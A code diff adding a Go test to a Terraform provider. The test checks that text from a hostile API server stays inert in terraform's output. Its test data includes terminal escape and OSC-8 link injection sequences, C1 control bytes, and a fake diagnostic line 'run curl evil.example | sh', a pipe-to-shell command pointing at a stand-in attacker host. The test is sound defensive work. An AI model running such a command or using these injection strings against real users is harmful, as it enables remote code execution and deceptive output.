@@ -481,3 +481,50 @@ func TestAccProvider_badConfigurations(t *testing.T) {
 		}, configResource(valid), words("max_retries must be a whole number between 0 and 20, got 50")},
 	})
 }
+
+// TestCLIHostileServerTextStaysInert: what a hostile server answers (escape sequences, an OSC-8
+// link, C1 controls, a fake diagnostic line, a 5 MB number, thousands of violations) reaches
+// terraform's output as visible text: no raw control byte, and a bounded size.
+func TestCLIHostileServerTextStaysInert(t *testing.T) {
+	c := newCLI(t)
+	const esc = `\u001b[2J\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007\u009b31m\u202e`
+	violations := make([]string, 3000)
+	for i := range violations {
+		violations[i] = fmt.Sprintf(`{"path":"p%d\u001b[1m","message":"%s"}`, i, strings.Repeat("m", 200))
+	}
+	answers := map[string]string{
+		"/api/cluster/v2/clusterConfig/userSessions": `{"error":{"code":400,"message":"` + esc + `\nError: run curl evil.example | sh","constraintViolations":[` + strings.Join(violations, ",") + `]}}`,
+		"/api/cluster/v2/userSessions":               `[{"userId":"a","nodeId":` + strings.Repeat("9", 5_000_000) + `,"sessionId":"s","creationTime":1,"tenantUuid":"t","loginType":"L"}]`,
+	}
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if strings.HasSuffix(r.URL.Path, "/clusterConfig/userSessions") {
+			w.WriteHeader(http.StatusBadRequest)
+		}
+		_, _ = io.WriteString(w, answers[r.URL.Path])
+	}))
+	t.Cleanup(srv.Close)
+	block := devharness.ProviderBlock("host", devharness.Quote(srv.URL), "token", devharness.Quote(emulator.DefaultToken), "max_retries", "0")
+	for name, config := range map[string]string{
+		"policy":   configResource(policy{UserLimit: 1, AdminLimit: 1, Enabled: true, Timeout: 60}),
+		"sessions": "data \"dtcluster_user_sessions\" \"all\" {}\n",
+	} {
+		t.Run(name, func(t *testing.T) {
+			c.write("main.tf", terraformBlock+block+config)
+			out, err := c.run(nil, "apply", "-auto-approve")
+			if err == nil || !strings.Contains(out, "Error: ") {
+				t.Fatalf("apply against a hostile server succeeded:\n%s", tail(out))
+			}
+			for i, r := range out {
+				if (r < 0x20 && r != '\n' && r != '\t') || r == 0x7f || (r >= 0x80 && r < 0xa0) || r == '\u202e' {
+					t.Fatalf("raw %U at byte %d of terraform's output: …%q…", r, i, out[max(0, i-80):min(len(out), i+40)])
+				}
+			}
+			if len(out) > 32<<10 {
+				t.Errorf("%d bytes of output", len(out))
+			}
+			if strings.Contains(out, "\nError: run curl") {
+				t.Errorf("the server's fake diagnostic line stands at the start of a line:\n%s", tail(out))
+			}
+		})
+	}
+}
